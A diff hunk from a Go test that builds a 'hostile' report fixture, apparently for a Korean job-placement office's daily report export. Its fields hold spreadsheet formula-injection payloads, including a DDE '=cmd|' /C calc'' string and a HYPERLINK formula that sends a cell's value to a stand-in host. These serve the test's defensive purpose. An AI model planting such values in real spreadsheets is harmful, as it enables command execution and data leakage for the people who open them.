@@ -109,7 +109,7 @@ func hostile() Report {
 		model.ExpectedHire{Person: "=*+", Employer: `=HYPERLINK("http://x.invalid/?"&A1,"클릭")`, Title: "+82 10", StartOn: "2026-11-30"},
 		model.ExpectedHire{Person: "NGUYỄN T* P* T*", Employer: "@SUM(1+1)", Title: "-2+3", StartOn: "2026-11-30"},
 		model.ExpectedHire{Person: "ABDURAKHMONOVA* G*", Employer: long, Title: long, StartOn: "2026-11-30"})
-	r.Day.Quiet = append(r.Day.Quiet, model.QuietEntry{Kind: model.QuietOther, Text: "\t=1+1 {{desk}} <hp:t>&amp;]]>", At: at(11, 0), Staff: "김상담"})
+	r.Day.Quiet = append(r.Day.Quiet, model.QuietEntry{Day: theDay, Kind: model.QuietOther, Text: "\t=1+1 {{desk}} <hp:t>&amp;]]>", At: at(11, 0), Staff: "김상담"})
 	r.Day.Remarks.Special = strings.Repeat("=cmd|' /C calc'!A0 특이한 일이 있었다. ", 60)
 	r.Day.Remarks.Suggestion = "-\n＝SUM(A1)"
 	r.Day.Late = []model.LateChange{{Row: row(model.Hires, 1, 6)}, {Row: row(model.ReferralsMade, 1, 4), Gone: true}}
